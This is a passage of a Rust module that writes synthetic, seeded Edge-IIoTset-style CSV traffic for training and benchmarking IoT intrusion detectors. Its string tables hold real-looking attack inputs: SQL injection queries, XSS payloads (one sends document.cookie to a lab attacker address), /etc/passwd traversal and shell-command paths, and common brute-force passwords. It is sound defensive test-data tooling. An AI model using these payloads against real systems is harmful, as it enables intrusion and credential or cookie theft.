//! Writes **generated** Edge-IIoTset-schema CSV files. Nothing in them was captured
//! from a network: every row is made up by a seeded random generator, and no result
//! obtained on them says anything about real IoT traffic. They exist for two jobs
//! where the real dataset is not at hand or not the right size:
//!
//! - the demo: a GRU classifier trained on them should reach a meaningful but not
//!   perfect accuracy, so packets come in flows with class-typical sequences, and
//!   attack flows carry ordinary-looking background packets that a per-packet model
//!   cannot tell apart;
//! - scale benchmarks and parser tests: the output reproduces the real file's
//!   quirks (CRLF, no final newline, the `0` / `0.0` label leak, hex flags, quoted
//!   fields with commas, quotes and newlines, a 200,000-character payload,
//!   column-shifted MITM rows, class-name variants, exact duplicate rows), and is
//!   written single-threaded at well over 100 MB/s in a release build.
//!
//! Same seed, same options: byte-identical output. `frame.time` never decreases,
//! except in the shifted MITM rows (which hold `0.0` / `6.0` there, like the real
//! file) and at the midnight wrap after about four hours of simulated capture
//! (some 100 million rows).
//!
//! # Traffic model
//!
//! A pool of `POOL` (16) active flows is kept; each row picks one at random (so flows
//! interleave as in a capture) and emits its next packet. A flow ends after a
//! kind-dependent number of packets and is replaced by a new one. Class counts are
//! fixed up front (`quotas`: the paper's Table 1 proportions, or equal ones) and a
//! new flow's class is drawn by remaining quota divided by the class's mean flow
//! length, so every stretch of the file holds roughly the target mix.
//!
//! All packets of a TCP flow share the two endpoints (host and port, in either
//! direction); UDP flows share the host pair and `udp.port`; ICMP and ARP flows the
//! host pair. Port scans are the exception by nature: the probed port changes
//! every two packets.

use std::io::{self, BufWriter, Write};

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

/// What to generate.
#[derive(Debug, Clone)]
pub struct SynthOptions {
    /// Number of data rows (the header is not counted).
    pub rows: u64,
    /// Seed of the generator: same seed, same bytes.
    pub seed: u64,
    /// Equal class proportions instead of the paper's (heavily imbalanced) ones.
    pub balanced: bool,
}

/// What was written.
#[derive(Debug, Clone, serde::Serialize)]
pub struct SynthSummary {
    /// Data rows written (header excluded).
    pub rows: u64,
    /// Bytes written, header included.
    pub bytes: u64,
    /// Rows per class, canonical class names, in the order of the paper's Table 1.
    /// Duplicate rows and spelling variants (`OS_Fingerprinting`, padded names) are
    /// counted under their canonical class.
    pub class_counts: Vec<(String, u64)>,
}

/// Writes `opts.rows` generated rows (plus the header) to `out`.
///
/// # Errors
///
/// Only I/O errors from `out`.
pub fn write_synth<W: Write>(out: W, opts: &SynthOptions) -> io::Result<SynthSummary> {
    let mut out = BufWriter::with_capacity(1 << 20, out);
    let header = HEADER.join(",");
    out.write_all(header.as_bytes())?;
    let mut bytes = header.len() as u64;

    let mut g = Gen::new(opts);
    for index in 0..opts.rows {
        let class = g.next_row(index);
        g.remaining[class as usize] -= 1;
        g.counts[class as usize] += 1;
        g.last_class = Some(class);
        // CRLF before each row rather than after: no newline after the last one.
        out.write_all(b"\r\n")?;
        out.write_all(&g.row)?;
        bytes += 2 + g.row.len() as u64;
    }
    out.flush()?;

    let class_counts = CLASSES
        .iter()
        .map(|&(c, name, _)| (name.to_string(), g.counts[c as usize]))
        .collect();
    Ok(SynthSummary {
        rows: opts.rows,
        bytes,
        class_counts,
    })
}

// ---------------------------------------------------------------------------
// Tunables
// ---------------------------------------------------------------------------

/// Active flows interleaved at any time.
const POOL: usize = 16;
/// Share of an attack flow's packets replaced by ordinary background packets (a
/// pure TCP ACK, or a DNS query): the per-packet ambiguity a flow model resolves.
const NOISE: f64 = 0.10;
/// Share of rows that repeat the previous row verbatim (real captures have these).
const DUPLICATE: f64 = 0.015;
/// Share of rows whose flags and checksums are written in hex (`0x0018`).
const HEX_ROWS: f64 = 0.30;
/// Absent non-leak fields written as an empty field instead of `0.0`: 2 % of them.
const EMPTY_BELOW: u32 = u32::MAX / 50;
/// One `http.file_data` value in this many holds a real newline (the others hold
/// the two characters `\n`). About 1 row in 20 carries `file_data` in the paper mix
/// (1 in 10 balanced), so this is roughly 1 row in 2,000 (1 in 1,000 balanced).
const NEWLINE_ONE_IN: u32 = 100;
/// One row in about this many carries a `tcp.payload` of 200,000+ hex characters.
const GIANT_ONE_IN: u32 = 200_000;
/// From this many rows on, at least one giant payload is written.
const GIANT_MIN_ROWS: u64 = 50_000;
/// One row in this many pads its class name with spaces.
const PADDED_LABEL_ONE_IN: u32 = 1000;
/// Capture clock start, 22:49:20.400794 (the time of day of the example row).
const CLOCK_START_US: u64 = (22 * 3600 + 49 * 60 + 20) * 1_000_000 + 400_794;
const DAY_US: u64 = 86_400 * 1_000_000;

// ---------------------------------------------------------------------------
// Schema
// ---------------------------------------------------------------------------

/// The Edge-IIoTset DNN CSV header, in order.
#[rustfmt::skip]
const HEADER: [&str; NCOLS] = [
    "frame.time", "ip.src_host", "ip.dst_host", "arp.dst.proto_ipv4", "arp.opcode",
    "arp.hw.size", "arp.src.proto_ipv4", "icmp.checksum", "icmp.seq_le",
    "icmp.transmit_timestamp", "icmp.unused", "http.file_data", "http.content_length",
    "http.request.uri.query", "http.request.method", "http.referer",
    "http.request.full_uri", "http.request.version", "http.response", "http.tls_port",
    "tcp.ack", "tcp.ack_raw", "tcp.checksum", "tcp.connection.fin", "tcp.connection.rst",
    "tcp.connection.syn", "tcp.connection.synack", "tcp.dstport", "tcp.flags",
    "tcp.flags.ack", "tcp.len", "tcp.options", "tcp.payload", "tcp.seq", "tcp.srcport",
    "udp.port", "udp.stream", "udp.time_delta", "dns.qry.name", "dns.qry.name.len",
    "dns.qry.qu", "dns.qry.type", "dns.retransmission", "dns.retransmit_request",
    "dns.retransmit_request_in", "mqtt.conack.flags", "mqtt.conflag.cleansess",
    "mqtt.conflags", "mqtt.hdrflags", "mqtt.len", "mqtt.msg_decoded_as", "mqtt.msg",
    "mqtt.msgtype", "mqtt.proto_len", "mqtt.protoname", "mqtt.topic", "mqtt.topic_len",
    "mqtt.ver", "mbtcp.len", "mbtcp.trans_id", "mbtcp.unit_id", "Attack_label",
    "Attack_type",
];
const NCOLS: usize = 63;

/// Column positions, in header order (the discriminant is the index).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(dead_code)] // Every column is named; a few (tls_port, icmp.unused, ...) stay absent.
#[rustfmt::skip]
enum Col {
    FrameTime, IpSrcHost, IpDstHost, ArpDstProtoIpv4, ArpOpcode, ArpHwSize,
    ArpSrcProtoIpv4, IcmpChecksum, IcmpSeqLe, IcmpTransmitTimestamp, IcmpUnused,
    HttpFileData, HttpContentLength, HttpRequestUriQuery, HttpRequestMethod, HttpReferer,
    HttpRequestFullUri, HttpRequestVersion, HttpResponse, HttpTlsPort, TcpAck, TcpAckRaw,
    TcpChecksum, TcpConnectionFin, TcpConnectionRst, TcpConnectionSyn,
    TcpConnectionSynack, TcpDstport, TcpFlags, TcpFlagsAck, TcpLen, TcpOptions,
    TcpPayload, TcpSeq, TcpSrcport, UdpPort, UdpStream, UdpTimeDelta, DnsQryName,
    DnsQryNameLen, DnsQryQu, DnsQryType, DnsRetransmission, DnsRetransmitRequest,
    DnsRetransmitRequestIn, MqttConackFlags, MqttConflagCleansess, MqttConflags,
    MqttHdrflags, MqttLen, MqttMsgDecodedAs, MqttMsg, MqttMsgtype, MqttProtoLen,
    MqttProtoname, MqttTopic, MqttTopicLen, MqttVer, MbtcpLen, MbtcpTransId, MbtcpUnitId,
    AttackLabel, AttackType,
}

/// Columns whose absent value the real capture scripts spelled `0` in normal rows
/// and `0.0` in attack rows: a label leak that `audit` must find.
const LEAK_COLS: [Col; 9] = [
    Col::HttpRequestMethod,
    Col::HttpReferer,
    Col::HttpRequestVersion,
    Col::MqttConackFlags,
    Col::MqttProtoname,
    Col::MqttTopic,
    Col::DnsQryNameLen,
    Col::TcpConnectionFin,
    Col::TcpConnectionRst,
];

const LEAK: [bool; NCOLS] = {
    let mut t = [false; NCOLS];
    let mut i = 0;
    while i < LEAK_COLS.len() {
        t[LEAK_COLS[i] as usize] = true;
        i += 1;
    }
    t
};

/// The 15 classes in the order of the Edge-IIoTset paper's Table 1.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[rustfmt::skip]
enum Class {
    Normal, DdosUdp, DdosIcmp, SqlInjection, Password, VulnerabilityScanner, DdosTcp,
    DdosHttp, Uploading, Backdoor, PortScanning, Xss, Ransomware, Mitm, Fingerprinting,
}

const NCLASSES: usize = 15;

/// Class, name, and row count in the real dataset (the paper's Table 1).
const CLASSES: [(Class, &str, u64); NCLASSES] = [
    (Class::Normal, "Normal", 1_615_643),
    (Class::DdosUdp, "DDoS_UDP", 121_568),
    (Class::DdosIcmp, "DDoS_ICMP", 116_436),
    (Class::SqlInjection, "SQL_injection", 51_203),
    (Class::Password, "Password", 50_153),
    (Class::VulnerabilityScanner, "Vulnerability_scanner", 50_110),
    (Class::DdosTcp, "DDoS_TCP", 50_062),
    (Class::DdosHttp, "DDoS_HTTP", 49_911),
    (Class::Uploading, "Uploading", 37_634),
    (Class::Backdoor, "Backdoor", 24_862),
    (Class::PortScanning, "Port_Scanning", 22_564),
    (Class::Xss, "XSS", 15_915),
    (Class::Ransomware, "Ransomware", 10_925),
    (Class::Mitm, "MITM", 1_214),
    (Class::Fingerprinting, "Fingerprinting", 1_001),
];

impl Class {
    fn name(self) -> &'static str {
        CLASSES[self as usize].1
    }

    /// The flow kinds a class is made of, with relative weights.
    fn kinds(self) -> &'static [(Kind, u32)] {
        match self {
            Class::Normal => &[
                (Kind::MqttSensor, 40),
                (Kind::ModbusPoll, 25),
                (Kind::DnsLookup, 15),
                (Kind::HttpBrowse, 17),
                (Kind::Ping, 3),
            ],
            Class::DdosUdp => &[(Kind::UdpFlood, 1)],
            Class::DdosIcmp => &[(Kind::IcmpFlood, 1)],
            Class::SqlInjection => &[(Kind::SqlInjection, 1)],
            Class::Password => &[(Kind::HttpBrute, 60), (Kind::MqttBrute, 40)],
            Class::VulnerabilityScanner => &[(Kind::VulnScan, 1)],
            Class::DdosTcp => &[(Kind::SynFlood, 1)],
            Class::DdosHttp => &[(Kind::HttpFlood, 1)],
            Class::Uploading => &[(Kind::Upload, 1)],
            Class::Backdoor => &[(Kind::Backdoor, 1)],
            Class::PortScanning => &[(Kind::PortScan, 1)],
            Class::Xss => &[(Kind::Xss, 1)],
            Class::Ransomware => &[(Kind::Ransomware, 1)],
            Class::Mitm => &[(Kind::ArpSpoof, 65), (Kind::MdnsShifted, 35)],
            Class::Fingerprinting => &[(Kind::OsProbe, 1)],
        }
    }

    /// Expected packets per flow, used to turn row quotas into flow-start weights.
    fn mean_flow_len(self) -> f64 {
        let kinds = self.kinds();
        let total: u32 = kinds.iter().map(|k| k.1).sum();
        kinds
            .iter()
            .map(|&(k, w)| {
                let (lo, hi) = k.len_range();
                f64::from(w) * f64::from(lo + hi) / 2.0
            })
            .sum::<f64>()
            / f64::from(total)
    }
}

/// Rows per class: proportional to the paper's counts (or equal when `balanced`),
/// apportioned exactly by largest remainder so they sum to `rows`. From 1,000 rows
/// on, every class gets at least max(5, 0.2 %) so the rarest ones stay learnable;
/// the extra rows come out of the largest class.
fn quotas(rows: u64, balanced: bool) -> [u64; NCLASSES] {
    let weights: [u128; NCLASSES] = std::array::from_fn(|i| {
        if balanced {
            1
        } else {
            u128::from(CLASSES[i].2)
        }
    });
    let total: u128 = weights.iter().sum();
    let exact = weights.map(|w| u128::from(rows) * w);
    // exact / total <= rows, so the cast cannot truncate.
    let mut q = exact.map(|e| (e / total) as u64);
    let frac = exact.map(|e| e % total);
    let mut order: [usize; NCLASSES] = std::array::from_fn(|i| i);
    order.sort_by(|&a, &b| frac[b].cmp(&frac[a]).then(a.cmp(&b)));
    let short = rows - q.iter().sum::<u64>();
    for &i in order.iter().take(short as usize) {
        q[i] += 1;
    }
    if rows >= 1000 {
        let floor = (rows / 500).max(5);
        let mut deficit = 0;
        for v in &mut q {
            if *v < floor {
                deficit += floor - *v;
                *v = floor;
            }
        }
        let largest = (0..NCLASSES)
            .max_by_key(|&i| (q[i], usize::MAX - i))
            .unwrap_or(0);
        q[largest] -= deficit;
    }
    q
}

// ---------------------------------------------------------------------------
// Hosts, ports and text tables
// ---------------------------------------------------------------------------

type Ip = [u8; 4];

const GATEWAY: Ip = [192, 168, 0, 1];
const BROKER: Ip = [192, 168, 0, 128];
const WEB_SERVERS: [Ip; 2] = [[192, 168, 0, 128], [192, 168, 0, 101]];
const PLCS: [Ip; 4] = [
    [192, 168, 0, 152],
    [192, 168, 0, 153],
    [192, 168, 0, 154],
    [192, 168, 0, 155],
];
const ATTACKERS: [Ip; 5] = [
    [192, 168, 0, 170],
    [192, 168, 0, 171],
    [192, 168, 0, 174],
    [192, 168, 0, 176],
    [192, 168, 0, 178],
];

/// An IoT device: 192.168.0.102-127 or .129-150.
fn device(rng: &mut ChaCha8Rng) -> Ip {
    let x = rng.random_range(102..=149u8);
    [192, 168, 0, if x >= 128 { x + 1 } else { x }]
}

/// A DDoS bot (compromised host outside the device range): 192.168.0.180-254.
fn bot(rng: &mut ChaCha8Rng) -> Ip {
    [192, 168, 0, rng.random_range(180..=254)]
}

/// A DDoS or scan victim: a server or a device.
fn victim(rng: &mut ChaCha8Rng) -> Ip {
    match rng.random_range(0..4) {
        0 => BROKER,
        1 => pick(rng, &WEB_SERVERS),
        2 => pick(rng, &PLCS),
        _ => device(rng),
    }
}

fn ephemeral(rng: &mut ChaCha8Rng) -> u16 {
    rng.random_range(1024..=65535)
}

fn pick<T: Copy>(rng: &mut ChaCha8Rng, xs: &[T]) -> T {
    xs[rng.random_range(0..xs.len())]
}

const BACKDOOR_PORTS: [u16; 6] = [4444, 31337, 5554, 6667, 12345, 1234];
const RANSOMWARE_PORTS: [u16; 6] = [445, 4445, 5555, 9999, 7777, 8443];
const FLOOD_TCP_PORTS: [u16; 6] = [80, 80, 80, 1883, 443, 8080];
const FLOOD_UDP_PORTS: [u16; 6] = [53, 123, 1900, 5353, 161, 5683];
const PROBE_PORTS: [u16; 5] = [22, 80, 1883, 502, 443];
const SCAN_PORTS: [u16; 30] = [
    21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1723, 3306, 3389, 5900,
    8080, 1883, 502, 8883, 5683, 161, 554, 8000, 8443, 9100, 49152,
];

const DNS_NAMES: [&str; 8] = [
    "broker.hivemq.com",
    "iot.eclipse.org",
    "time.google.com",
    "pool.ntp.org",
    "api.thingspeak.com",
    "mqtt.eclipseprojects.io",
    "firmware.vendor-iot.com",
    "_mqtt._tcp.local",
];

const TOPICS: [&str; 10] = [
    "Temperature_and_Humidity",
    "Heart_Rate",
    "Water_Level",
    "Soil_Moisture",
    "Flame_Sensor",
    "pH_Sensor",
    "Distance",
    "IR_Receiver",
    "Sound_Sensor",
    "Ultrasonic",
];

/// Query strings as they appear in the CSV: ones holding commas or double quotes
/// are already quoted and escaped.
const NORMAL_PAGES: [(&str, Option<&str>); 7] = [
    ("/", None),
    ("/index.html", None),
    ("/api/v1/sensors", Some("id=3&format=json")),
    ("/api/v1/status", None),
    ("/dashboard", Some("range=24h")),
    ("/favicon.ico", None),
    ("/static/app.js", Some("v=1.4.2")),
];
const SQLI_QUERIES: [&str; 7] = [
    "id=1%27+OR+%271%27%3D%271&Submit=Submit",
    "id=1' OR '1'='1&Submit=Submit",
    "id=1%27+UNION+SELECT+user%2C+password+FROM+users--+&Submit=Submit",
    "\"id=1' UNION SELECT user, password FROM users-- &Submit=Submit\"",
    "id=%27+AND+1%3D0+UNION+SELECT+NULL%2C+table_name+FROM+information_schema.tables--+&Submit=Submit",
    "id=1%27+AND+SLEEP%285%29--+&Submit=Submit",
    "\"id=1\"\" OR \"\"1\"\"=\"\"1&Submit=Submit\"",
];
const XSS_QUERIES: [&str; 5] = [
    "name=%3Cscript%3Ealert%28%27XSS%27%29%3C%2Fscript%3E",
    "\"name=<script>alert(\"\"x\"\")</script>\"",
    "name=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E",
    "\"name=<svg/onload=alert(document.cookie)>, test\"",
    "default=%3Cscript%3Edocument.location%3D%27http%3A%2F%2F192.168.0.170%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E",
];
const BRUTE_QUERIES: [&str; 8] = [
    "username=admin&password=123456&Login=Login",
    "username=admin&password=password&Login=Login",
    "username=admin&password=qwerty&Login=Login",
    "username=admin&password=letmein&Login=Login",
    "username=root&password=raspberry&Login=Login",
    "username=admin&password=abc123&Login=Login",
    "username=user&password=iloveyou&Login=Login",
    "username=admin&password=trustno1&Login=Login",
];
const VULN_PAGES: [(&str, Option<&str>); 14] = [
    ("/cgi-bin/test.cgi", None),
    ("/admin/", None),
    ("/phpmyadmin/", None),
    ("/.git/config", None),
    ("/wp-login.php", None),
    ("/server-status", None),
    ("/../../../../etc/passwd", None),
    ("/scripts/..%c0%af../winnt/system32/cmd.exe", Some("/c+dir")),
    ("/index.php", Some("option=com_content&view=article&id=1")),
    ("/manager/html", None),
    ("/.env", None),
    ("/config.php.bak", None),
    ("/shell", Some("cat+/etc/passwd")),
    ("/HNAP1/", None),
];
const VULN_METHODS: [&str; 9] = [
    "GET", "GET", "GET", "GET", "HEAD", "OPTIONS", "PROPFIND", "TRACE", "POST",
];
const PASSWORDS: [&str; 8] = [
    "123456",
    "password",
    "admin",
    "qwerty",
    "letmein",
    "dragon",
    "monkey",
    "raspberry",
];
const NAMES: [&str; 5] = ["admin", "Gordon", "Hack", "Pablo", "Bob"];

const REF_NORMAL: &str = "http://192.168.0.128/dashboard";
const REF_SQLI: &str = "http://192.168.0.128/dvwa/vulnerabilities/sqli/";
const REF_XSS_R: &str = "http://192.168.0.128/dvwa/vulnerabilities/xss_r/";
const REF_XSS_S: &str = "http://192.168.0.128/dvwa/vulnerabilities/xss_s/";
const REF_UPLOAD: &str = "http://192.168.0.128/dvwa/vulnerabilities/upload/";
const REF_LOGIN: &str = "http://192.168.0.128/dvwa/login.php";

/// TCP options (hex, as tshark prints them) of nmap's OS-detection probes.
const OS_PROBE_OPTIONS: [&str; 6] = [
    "03030a0102040578080affffffff000000000402",
    "020405780303000402080affffffff0000000000",
    "080affffffff0000000001010303050102040280",
    "0402080affffffff000000000303",
    "020402180402080affffffff0000000003030a00",
    "0303000102040109080affffffff",
];

// ---------------------------------------------------------------------------
// Flows
// ---------------------------------------------------------------------------

/// What a flow does; a class is a mix of kinds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    // Normal
    MqttSensor,
    ModbusPoll,
    DnsLookup,
    HttpBrowse,
    Ping,
    // Attacks
    UdpFlood,
    IcmpFlood,
    SynFlood,
    HttpFlood,
    SqlInjection,
    Xss,
    Upload,
    HttpBrute,
    MqttBrute,
    VulnScan,
    Backdoor,
    Ransomware,
    PortScan,
    OsProbe,
    ArpSpoof,
    MdnsShifted,
}

impl Kind {
    /// Packets per flow (inclusive). Sessions need at least 6: handshake, one body
    /// packet, and the two closing packets.
    fn len_range(self) -> (u32, u32) {
        match self {
            Kind::MqttSensor => (12, 60),
            Kind::ModbusPoll => (9, 45),
            Kind::DnsLookup => (1, 6),
            Kind::HttpBrowse => (8, 24),
            Kind::Ping => (2, 10),
            Kind::UdpFlood | Kind::IcmpFlood => (10, 60),
            Kind::SynFlood => (3, 12),
            Kind::HttpFlood => (6, 20),
            Kind::SqlInjection | Kind::Xss | Kind::HttpBrute => (8, 40),
            Kind::Upload => (10, 50),
            Kind::MqttBrute | Kind::VulnScan => (6, 30),
            Kind::Backdoor | Kind::Ransomware => (10, 60),
            Kind::PortScan => (6, 40),
            Kind::OsProbe => (3, 20),
            Kind::ArpSpoof => (3, 30),
            Kind::MdnsShifted => (2, 12),
        }
    }

    /// A full TCP connection: handshake, class-specific body, FIN exchange.
    fn is_session(self) -> bool {
        matches!(
            self,
            Kind::MqttSensor
                | Kind::ModbusPoll
                | Kind::HttpBrowse
                | Kind::HttpFlood
                | Kind::SqlInjection
                | Kind::Xss
                | Kind::Upload
                | Kind::HttpBrute
                | Kind::MqttBrute
                | Kind::VulnScan
                | Kind::Backdoor
                | Kind::Ransomware
        )
    }

    fn is_tcp(self) -> bool {
        self.is_session() || matches!(self, Kind::SynFlood | Kind::PortScan | Kind::OsProbe)
    }
}

/// One active flow. `client` opened it (attacker, bot, or device); `server` is the
/// other end. Sequence numbers are relative, as tshark prints them.
#[derive(Debug, Clone, Copy)]
struct Flow {
    class: Class,
    kind: Kind,
    client: Ip,
    server: Ip,
    cport: u16,
    sport: u16,
    /// Packets emitted so far / planned.
    step: u32,
    len: u32,
    cseq: u32,
    sseq: u32,
    /// Initial sequence numbers (raw values = base + relative).
    craw: u32,
    sraw: u32,
    /// TCP timestamp option base.
    ts: u32,
    udp_stream: u64,
    /// Kind-specific counter: Modbus transaction id, ICMP sequence, scan position.
    aux: u32,
    /// Kind-specific choice: topic, unit id, DNS name, SYN payload size.
    var: u32,
}

impl Flow {
    fn done(&self) -> bool {
        self.step >= self.len
    }
}

fn new_flow(rng: &mut ChaCha8Rng, class: Class, next_stream: &mut u64) -> Flow {
    let kinds = class.kinds();
    let total: u32 = kinds.iter().map(|k| k.1).sum();
    let mut r = rng.random_range(0..total);
    let mut kind = kinds[0].0;
    for &(k, w) in kinds {
        if r < w {
            kind = k;
            break;
        }
        r -= w;
    }
    let (lo, hi) = kind.len_range();
    let eph = ephemeral(rng);
    let (client, server, cport, sport) = match kind {
        Kind::MqttSensor => (device(rng), BROKER, eph, 1883),
        Kind::ModbusPoll => (device(rng), pick(rng, &PLCS), eph, 502),
        Kind::DnsLookup => (device(rng), GATEWAY, 0, 53),
        Kind::HttpBrowse => (device(rng), pick(rng, &WEB_SERVERS), eph, 80),
        Kind::Ping => (device(rng), victim(rng), 0, 0),
        Kind::UdpFlood => (bot(rng), victim(rng), 0, pick(rng, &FLOOD_UDP_PORTS)),
        Kind::IcmpFlood => (bot(rng), victim(rng), 0, 0),
        Kind::SynFlood => (bot(rng), victim(rng), eph, pick(rng, &FLOOD_TCP_PORTS)),
        Kind::HttpFlood => (bot(rng), pick(rng, &WEB_SERVERS), eph, 80),
        Kind::SqlInjection | Kind::Xss | Kind::Upload | Kind::HttpBrute | Kind::VulnScan => {
            (pick(rng, &ATTACKERS), pick(rng, &WEB_SERVERS), eph, 80)
        }
        Kind::MqttBrute => (pick(rng, &ATTACKERS), BROKER, eph, 1883),
        Kind::Backdoor => (
            pick(rng, &ATTACKERS),
            device(rng),
            eph,
            pick(rng, &BACKDOOR_PORTS),
        ),
        Kind::Ransomware => (
            pick(rng, &ATTACKERS),
            victim(rng),
            eph,
            pick(rng, &RANSOMWARE_PORTS),
        ),
        Kind::PortScan => (pick(rng, &ATTACKERS), victim(rng), eph, 0),
        Kind::OsProbe => (
            pick(rng, &ATTACKERS),
            victim(rng),
            eph,
            pick(rng, &PROBE_PORTS),
        ),
        // An ARP spoofer claims the gateway's (or broker's) address towards a victim.
        Kind::ArpSpoof => (pick(rng, &[GATEWAY, BROKER]), device(rng), 0, 0),
        Kind::MdnsShifted => (device(rng), GATEWAY, 0, 5353),
    };
    let udp_stream = if matches!(kind, Kind::DnsLookup | Kind::UdpFlood) {
        *next_stream += 1;
        *next_stream
    } else {
        0
    };
    let var = match kind {
        Kind::MqttSensor => rng.random_range(0..TOPICS.len() as u32),
        Kind::ModbusPoll => rng.random_range(1..=3),
        Kind::DnsLookup => rng.random_range(0..DNS_NAMES.len() as u32),
        // hping3-style floods: half send bare SYNs, half SYNs with data.
        Kind::SynFlood => {
            if rng.random_bool(0.5) {
                0
            } else {
                rng.random_range(64..=512)
            }
        }
        _ => 0,
    };
    Flow {
        class,
        kind,
        client,
        server,
        cport,
        sport,
        step: 0,
        len: rng.random_range(lo..=hi),
        cseq: 0,
        sseq: 0,
        craw: rng.random(),
        sraw: rng.random(),
        ts: rng.random(),
        udp_stream,
        aux: rng.random_range(0..=u32::from(u16::MAX)),
        var,
    }
}

// ---------------------------------------------------------------------------
// Packet fields
// ---------------------------------------------------------------------------

/// One field of the row being built. Text lives in [`Pkt::scratch`] so a row costs
/// no allocation.
#[derive(Debug, Clone, Copy)]
enum F {
    /// Absent: `0` or `0.0` depending on column and label, sometimes empty.
    Absent,
    /// A number written as a float: `1883.0`.
    Num(u64),
    /// A number written as an integer: `1`.
    Int(u64),
    /// Microseconds written as seconds with six decimals: `0.000012`.
    Micros(u64),
    /// Hex with a fixed number of digits: `0x0018`.
    Hex(u32, u8),
    Ip(Ip),
    Str(&'static str),
    /// A byte range of the scratch buffer, already CSV-escaped.
    Buf(u32, u32),
    /// Microseconds since midnight, in the real file's broken `frame.time` form.
    Time(u64),
}

#[derive(Debug)]
struct Pkt {
    f: [F; NCOLS],
    scratch: Vec<u8>,
    /// This row writes flags and checksums in hex.
    hex: bool,
}

const TCP_FIN: u16 = 0x001;
const TCP_SYN: u16 = 0x002;
const TCP_RST: u16 = 0x004;
const TCP_PSH: u16 = 0x008;
const TCP_ACK: u16 = 0x010;
const TCP_URG: u16 = 0x020;
const TCP_ECE: u16 = 0x040;
const TCP_CWR: u16 = 0x080;

impl Pkt {
    fn new() -> Self {
        Pkt {
            f: [F::Absent; NCOLS],
            scratch: Vec::with_capacity(8 << 10),
            hex: false,
        }
    }

    fn reset(&mut self, hex: bool) {
        self.f = [F::Absent; NCOLS];
        self.scratch.clear();
        self.hex = hex;
    }

    fn set(&mut self, c: Col, v: F) {
        self.f[c as usize] = v;
    }

    /// A number; zero is absent (that is how tshark exports leave it).
    fn num(&mut self, c: Col, v: impl Into<u64>) {
        let v = v.into();
        self.set(c, if v == 0 { F::Absent } else { F::Num(v) });
    }

    /// Flags and checksums: hex in hex rows, decimal floats otherwise.
    fn word(&mut self, c: Col, v: u16) {
        if self.hex {
            self.set(c, F::Hex(u32::from(v), 4));
        } else {
            self.num(c, v);
        }
    }

    /// Text built into the scratch buffer by `write`.
    fn buf(&mut self, c: Col, write: impl FnOnce(&mut Vec<u8>)) {
        let a = self.scratch.len();
        write(&mut self.scratch);
        let b = self.scratch.len();
        // The scratch buffer holds one row (< 4 GiB).
        self.set(c, F::Buf(a as u32, b as u32));
    }

    fn is_tcp(&self) -> bool {
        matches!(self.f[Col::TcpSrcport as usize], F::Num(_))
    }

    fn hosts(&mut self, src: Ip, dst: Ip) {
        self.set(Col::IpSrcHost, F::Ip(src));
        self.set(Col::IpDstHost, F::Ip(dst));
    }

    /// `n` bytes of pseudo-random payload as lowercase hex (xorshift: cheap, and
    /// its one seed comes from the row's RNG, so output stays deterministic).
    fn payload(&mut self, n: u32, seed: u64) {
        self.buf(Col::TcpPayload, |b| push_random_hex(b, n as usize, seed));
    }

    fn options(&mut self, s: &'static str) {
        self.set(Col::TcpOptions, F::Str(s));
    }

    /// Timestamps option of an established connection: NOP NOP TS(val, ecr).
    fn options_ts(&mut self, val: u32, ecr: u32) {
        self.buf(Col::TcpOptions, |b| {
            b.extend_from_slice(b"0101080a");
            push_hex_digits(b, val, 8);
            push_hex_digits(b, ecr, 8);
        });
    }

    /// Appends the row (no line terminator) to `out`.
    fn render(&self, out: &mut Vec<u8>, normal: bool, rng: &mut ChaCha8Rng) {
        for (i, f) in self.f.iter().enumerate() {
            if i > 0 {
                out.push(b',');
            }
            match *f {
                F::Absent => {
                    if LEAK[i] {
                        out.extend_from_slice(if normal { b"0" } else { b"0.0" });
                    } else if rng.random::<u32>() >= EMPTY_BELOW {
                        out.extend_from_slice(b"0.0");
                    }
                }
                F::Num(v) => {
                    push_u64(out, v);
                    out.extend_from_slice(b".0");
                }
                F::Int(v) => push_u64(out, v),
                F::Micros(us) => {
                    push_u64(out, us / 1_000_000);
                    out.push(b'.');
                    push_padded(out, us % 1_000_000, 6);
                }
                F::Hex(v, width) => {
                    out.extend_from_slice(b"0x");
                    push_hex_digits(out, v, width);
                }
                F::Ip(ip) => push_ip(out, ip),
                F::Str(s) => out.extend_from_slice(s.as_bytes()),
                F::Buf(a, b) => out.extend_from_slice(&self.scratch[a as usize..b as usize]),
                F::Time(us) => {
                    // The real field lost "Mon dd," to a comma split: " 2021 22:49:20.400794000 ".
                    let us = us % DAY_US;
                    let secs = us / 1_000_000;
                    out.extend_from_slice(b" 2021 ");
                    push_padded(out, secs / 3600, 2);
                    out.push(b':');
                    push_padded(out, secs / 60 % 60, 2);
                    out.push(b':');
                    push_padded(out, secs % 60, 2);
                    out.push(b'.');
                    push_padded(out, us % 1_000_000, 6);
                    out.extend_from_slice(b"000 ");
                }
            }
        }
    }
}

// ---------------------------------------------------------------------------
// Packet builders
// ---------------------------------------------------------------------------

/// Generator state shared by the builders.
#[derive(Debug)]
struct Ctx {
    rng: ChaCha8Rng,
    next_stream: u64,
    /// 1-based number of the row being built (for `dns.retransmit_request_in`).
    frame: u64,
}

/// Emits `f`'s next packet into `p`.
fn build(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx) {
    let noisy =
        f.class != Class::Normal && f.kind != Kind::MdnsShifted && cx.rng.random_bool(NOISE);
    if noisy {
        background(p, f, cx);
    } else if f.kind.is_session() {
        session(p, f, cx);
    } else {
        match f.kind {
            Kind::DnsLookup => dns_lookup(p, f, cx),
            Kind::Ping | Kind::IcmpFlood => icmp_echo(p, f, cx),
            Kind::UdpFlood => udp_flood(p, f, cx),
            Kind::SynFlood => syn_flood(p, f, cx),
            Kind::PortScan => port_scan(p, f, cx),
            Kind::OsProbe => os_probe(p, f, cx),
            Kind::ArpSpoof => arp_spoof(p, f, cx),
            Kind::MdnsShifted => mdns_shifted(p, f, cx),
            _ => unreachable!("sessions are handled above"),
        }
    }
    f.step += 1;
}

/// A packet every class sends: a bare ACK inside a TCP flow, else a DNS lookup.
fn background(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx) {
    if f.kind.is_tcp() {
        let from_client = cx.rng.random_bool(0.5);
